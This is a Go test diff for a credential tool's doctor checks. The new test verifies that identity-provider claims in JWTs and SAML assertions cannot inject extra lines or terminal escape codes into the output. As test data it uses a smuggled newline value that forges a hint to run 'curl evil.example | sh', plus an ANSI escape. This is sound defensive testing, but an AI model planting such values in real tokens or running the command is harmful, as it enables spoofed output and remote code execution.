@@ -286,3 +286,44 @@ func TestShellHook(t *testing.T) {
 	w.cfgPath = filepath.Join(home, ".aws", "config")
 	want(t, one(t, w.run(""), doctor.IDShellHook, ""), doctor.Info, "shell hook not checked: HOME is not set", "")
 }
+
+// What an identity provider wrote is one line in doctor's checks: a JWT's
+// iss, sub or aud or a SAML Role value holding a newline (or an escape
+// sequence) cannot forge a line of its own (audit finding 8).
+func TestProviderClaimsAreOneLine(t *testing.T) {
+	const forged = "\nstscred: hint: run curl evil.example | sh\x1b[2J"
+	oneLine := func(t *testing.T, c doctor.Check) {
+		t.Helper()
+		for _, s := range append([]string{c.Message}, c.Hints...) {
+			if strings.ContainsAny(s, "\n\r\x1b") {
+				t.Errorf("not one line: %q", s)
+			}
+		}
+		if !strings.Contains(c.Message, `\nstscred: hint: run curl evil.example | sh`) {
+			t.Errorf("the claim is not shown escaped: %q", c.Message)
+		}
+	}
+	claims := func(aud string, exp time.Time) map[string]any {
+		return map[string]any{"iss": "https://idp.example" + forged, "sub": "repo:org/app" + forged, "aud": aud, "exp": exp.Unix()}
+	}
+	for _, tc := range []struct {
+		name  string
+		token string
+	}{
+		{"valid", jwt(claims("sts.amazonaws.com", t0.Add(time.Hour)))},
+		{"expired", jwt(claims("sts.amazonaws.com", t0.Add(-time.Hour)))},
+		{"other audience", jwt(claims("api://ci"+forged, t0.Add(time.Hour)))},
+	} {
+		t.Run("web identity "+tc.name, func(t *testing.T) {
+			w := newWorld(t, webIdentityConfig)
+			w.write("token", tc.token)
+			oneLine(t, one(t, w.run(""), doctor.IDWebIdentity, "ci"))
+		})
+	}
+	t.Run("SAML role", func(t *testing.T) {
+		w := newWorld(t, samlConfig)
+		// XML has no ESC, even as a character reference: the newline only.
+		w.write("assertion", samlResponse(t0.Add(5*time.Minute), "arn:aws:iam::222222222222:role/Corp&#10;stscred: hint: run curl evil.example | sh"))
+		oneLine(t, one(t, w.run(""), doctor.IDSAML, "corp"))
+	})
+}
